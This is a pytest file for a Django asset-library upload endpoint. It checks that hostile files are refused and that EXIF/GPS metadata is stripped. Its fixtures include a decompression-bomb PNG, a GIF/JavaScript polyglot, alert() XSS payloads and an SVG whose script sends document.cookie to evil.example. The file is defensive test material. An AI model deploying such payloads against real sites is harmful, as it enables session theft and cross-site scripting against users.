"""Uploads: the hostile-file corpus gets the right 4xx (never a 500); what is stored has no metadata but ours."""

from __future__ import annotations

import io
import struct
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from dam.blobs import blob_read
from dam.models import Asset, AssetVersion
from dam.provenance import read_provenance
from tests.factories import encode, marked_image
from tests.support.errors import error_codes, error_fields, error_message, names_field

pytestmark = pytest.mark.django_db
URL = "/api/v1/assets"


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)


def png_declaring(width: int, height: int) -> bytes:
    """A tiny file whose header claims width x height RGB pixels (a decompression bomb's calling card)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 1024)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")


def truncated_png() -> bytes:
    data = encode(marked_image(400, 300))
    return data[: len(data) * 6 // 10]


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('https://evil.example/'+document.cookie)</script><rect width='10' height='10'/></svg>"
)
EPS = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\nnewpath 0 0 moveto 10 10 lineto stroke\nshowpage\n"
# A 1x1 GIF whose bytes are also valid JavaScript: `GIF89a/*...*/=alert(1);`
GIF_JS_POLYGLOT = (
    b"GIF89a/*\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
    b"*/=alert(document.domain);"
)


def jpeg_with_gps() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # camera make
    exif[0x0112] = 6  # orientation: displayed rotated 90° clockwise
    exif[0x8825] = {1: "N", 2: (35.0, 39.0, 29.0), 3: "E", 4: (139.0, 42.0, 10.0)}  # Tokyo
    return encode(marked_image(600, 400), "JPEG", exif=exif.tobytes(), quality=90)


def post(actor, data: bytes, name: str = "photo.png", content_type: str = "image/png", **fields):
    upload = SimpleUploadedFile(name, data, content_type=content_type)
    return actor.client().post(URL, {"file": upload, **fields}, format="multipart")


@pytest.mark.parametrize(
    "refusal",
    [
        ("png declaring 50000x50000", png_declaring(50_000, 50_000), "big.png", 422, "too_many_pixels", "pixels"),
        ("truncated png", truncated_png(), "cut.png", 422, "invalid_image", ""),
        ("svg with a script", SVG_WITH_SCRIPT, "logo.svg", 415, "unsupported_media_type", "SVG"),
        ("eps renamed .png", EPS, "photo.png", 415, "unsupported_media_type", "EPS"),
        ("gif/js polyglot", GIF_JS_POLYGLOT, "pixel.png", 415, "unsupported_media_type", "GIF"),
        ("html", b"<!doctype html><script>alert(1)</script>", "a.jpg", 415, "unsupported_media_type", "HTML"),
        ("garbage", b"\x00\x01\x02\x03" * 100, "a.webp", 415, "unsupported_media_type", "unknown"),
        ("png signature only", b"\x89PNG\r\n\x1a\n", "a.png", 422, "invalid_image", ""),
        ("jpeg header only", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00", "a.jpg", 422, "invalid_image", ""),
    ],
    ids=lambda refusal: refusal[0],
)
def test_the_hostile_corpus_is_refused_with_the_right_4xx_and_nothing_is_stored(alice, refusal):
    case, data, name, status, code, words = refusal
    response = post(alice, data, name=name)
    assert response.status_code == status, (case, response.content)
    assert error_codes(response) == {code} and error_fields(response) == {"file"}, case
    assert words in error_message(response, "file"), (case, response.content)
    assert not Asset.objects.for_tenant(alice.tenant).exists()


def test_a_jpeg_with_gps_is_stored_re_encoded_upright_without_any_metadata_but_provenance(alice):
    original = jpeg_with_gps()
    assert b"PhoneMaker" in original and Image.open(io.BytesIO(original)).getexif().get_ifd(0x8825)
    response = post(alice, original, name="shoe.jpg", content_type="image/jpeg", digital_source_type="digitalCapture")
    assert response.status_code == 201, response.content
    version = AssetVersion.objects.for_tenant(alice.tenant).get()
    stored = blob_read(version.storage_key)
    image = Image.open(io.BytesIO(stored))
    assert image.format == "JPEG" and image.size == (400, 600) == (version.width, version.height)  # rotated
    assert not image.getexif() and b"Exif\x00\x00" not in stored and b"PhoneMaker" not in stored
    assert read_provenance(stored)["source_type"] == "digitalCapture"
    assert version.digital_source_type == "digitalCapture" and version.status == "needs_review"
    body = response.json()
    assert body["source"] == "uploaded" and body["title"] == "shoe"
    assert response["Location"] == f"/api/v1/assets/{body['id']}"


def test_the_type_comes_from_the_bytes_not_the_name_or_content_type(alice):
    response = post(alice, encode(marked_image(), "JPEG"), name="really.png", content_type="image/png")
    assert response.status_code == 201
    version = AssetVersion.objects.for_tenant(alice.tenant).get()
    assert version.format == "jpeg" and version.storage_key.endswith(".jpg")


def test_bytes_after_the_image_do_not_survive(alice):
    payload = b"<script>alert(document.cookie)</script>"
    response = post(alice, encode(marked_image()) + payload, name="polyglot.png")
    assert response.status_code == 201
    stored = blob_read(AssetVersion.objects.for_tenant(alice.tenant).get().storage_key)
    assert payload not in stored and stored.endswith(b"IEND\xaeB`\x82")


def test_animations_are_refused(alice):
    frames = [marked_image(64, 64, mark=(0.2 + i / 4, 0.5), radius=8) for i in range(3)]
    buffer = io.BytesIO()
    frames[0].save(buffer, format="PNG", save_all=True, append_images=frames[1:])
    response = post(alice, buffer.getvalue(), name="anim.png")
    assert response.status_code == 415 and "animated" in error_message(response, "file")


def test_too_many_bytes_is_413_and_too_many_pixels_is_422(alice, settings):
    settings.UPLOAD_MAX_BYTES = 4096
    big = encode(Image.effect_noise((200, 200), 64).convert("RGB"))
    assert len(big) > 4096
    response = post(alice, big)
    assert response.status_code == 413 and "too_large" in error_codes(response)
    settings.UPLOAD_MAX_BYTES = 10_000_000
    settings.UPLOAD_MAX_PIXELS = 100 * 100
    response = post(alice, encode(marked_image(200, 100)))
    assert response.status_code == 422 and "20,000 pixels" in error_message(response, "file")
    assert not Asset.objects.for_tenant(alice.tenant).exists()


def test_a_request_declaring_a_huge_body_is_refused_before_it_is_read(alice, settings):
    settings.UPLOAD_MAX_BYTES = 1024
    client = alice.client()
    response = client.generic(
        "POST", URL, b"x" * 10, content_type="multipart/form-data; boundary=x", CONTENT_LENGTH=str(10**9)
    )
    assert response.status_code == 413


def test_the_same_bytes_twice_give_the_same_asset_with_200(alice, charlie):
    data = encode(marked_image(), "WEBP", lossless=True)
    first = post(alice, data, name="ref.webp", content_type="image/webp", tags="Brand,reference")
    again = post(alice, data, name="other-name.webp", content_type="image/webp", title="another title")
    assert (first.status_code, again.status_code) == (201, 200)
    assert first.json()["id"] == again.json()["id"] and again.json()["title"] == "ref"
    assert first.json()["tags"] == ["brand", "reference"]
    assert Asset.objects.for_tenant(alice.tenant).count() == 1
    # Dedupe is per tenant: another brand uploading the same file gets its own asset.
    other = post(charlie, data, name="ref.webp", content_type="image/webp")
    assert other.status_code == 201 and other.json()["id"] != first.json()["id"]


def test_upload_fields_are_validated_and_applied(alice):
    from dam.services.metadata import collection_create

    collection_create(tenant=alice.tenant, slug="summer-26", name="Summer")
    response = post(
        alice,
        encode(marked_image()),
        title="Beach hero",
        collection="summer-26",
        locale="ja-JP",
        alt_text='{"ja-JP": "浜辺のボール", "en": "A ball on a beach"}',
    )
    assert response.status_code == 201, response.content
    version = AssetVersion.objects.for_tenant(alice.tenant).get()
    assert version.alt_text == {"ja-JP": "浜辺のボール", "en": "A ball on a beach"}
    assert response.json()["collection"] == "summer-26" and response.json()["locale"] == "ja-JP"
    for fields, field in [
        ({"collection": "nope"}, "collection"),
        ({"alt_text": "not json"}, "alt_text"),
        ({"alt_text": '{"not a locale!": "x"}'}, "alt_text"),
        ({"digital_source_type": "madeUp"}, "digital_source_type"),
    ]:
        refused = post(alice, encode(marked_image(mark=(0.1, 0.1))), **fields)
        assert refused.status_code == 400 and names_field(refused, field), (fields, refused.content)
    assert post(alice, b"", name="empty.png").status_code == 400
    assert alice.client().post(URL, {"title": "no file"}, format="multipart").status_code == 400


def test_the_declared_source_type_of_the_file_itself_is_kept_when_the_uploader_names_none(alice):
    from dam.provenance import ProvenanceRecord, provenance_stamp
    from dam.services.settings import library_settings_update

    library_settings_update(tenant=alice.tenant, credit_line="Tenant A Studio")
    declared = provenance_stamp(
        encode(marked_image()),
        image_format="png",
        record=ProvenanceRecord(source_type="digitalCreation", credit_line="Someone Else"),
    )
    response = post(alice, declared, name="illustration.png")
    assert response.status_code == 201
    stored = blob_read(AssetVersion.objects.for_tenant(alice.tenant).get().storage_key)
    provenance = read_provenance(stored)
    # The declaration is kept; the rest of the file's XMP is not: the packet is ours.
    assert provenance["source_type"] == "digitalCreation"
    assert provenance["Credit"] == "Tenant A Studio" and b"Someone Else" not in stored


def test_a_read_only_key_cannot_upload_and_nothing_is_stored(bob):
    response = post(bob, encode(marked_image()))
    assert response.status_code == 403 and "assets:write" in response.json()["detail"]
    assert not Asset.objects.for_tenant(bob.tenant).exists()


def test_a_16_bit_greyscale_png_keeps_its_tones(alice):
    image = Image.new("I;16", (256, 4))
    image.putdata([x * 257 for _ in range(4) for x in range(256)])  # 0..65535 left to right
    response = post(alice, encode(image), name="scan.png")
    assert response.status_code == 201
    stored = Image.open(io.BytesIO(blob_read(AssetVersion.objects.for_tenant(alice.tenant).get().storage_key)))
    assert [stored.getpixel((x, 1))[0] for x in (0, 128, 255)] == [0, 128, 255]  # scaled, not clipped


def test_an_xmp_declaration_with_entities_is_ignored_not_expanded(alice):
    from dam.xmp import embed_xmp

    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "trainedAlgorithmicMedia">]>'
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        b'<rdf:Description xmlns:Iptc4xmpExt="http://iptc.org/std/Iptc4xmpExt/2008-02-29/" '
        b'Iptc4xmpExt:DigitalSourceType="http://cv.iptc.org/newscodes/digitalsourcetype/&a;"/>'
        b"</rdf:RDF></x:xmpmeta>"
    )
    response = post(alice, embed_xmp(encode(marked_image()), "png", laughs), name="entity.png")
    assert response.status_code == 201
    version = AssetVersion.objects.for_tenant(alice.tenant).get()
    assert version.digital_source_type == "" and "source_type" not in read_provenance(blob_read(version.storage_key))
